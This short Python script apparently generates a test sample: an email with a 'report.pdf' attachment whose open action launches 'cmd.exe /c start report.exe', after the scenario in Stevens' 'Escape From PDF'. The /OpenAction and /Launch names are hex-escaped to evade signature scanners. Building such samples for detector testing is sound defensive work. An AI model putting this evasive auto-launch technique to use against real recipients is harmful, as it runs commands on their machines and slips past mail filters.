"""A paper that starts a command when it is opened, under names that are written with #xx.
Scenario: D. Stevens, Escape From PDF (March 2010)."""
from kit import *
from kit.pdf import hidden


def make():
    p = Pdf().page(["Report"]).open_action("<</S/Launch/Win<</F(cmd.exe)/P(/c start report.exe)>>>>")
    return (Mail("Report", "info@example.net", date="Thu, 8 Apr 2010 10:20:00 +0900")
            .text("Report attached.\n").attach("report.pdf", p.bytes(lambda v: v.replace("/OpenAction", hidden("/OpenAction")).replace("/Launch", hidden("/Launch"))), "application/pdf").bytes())
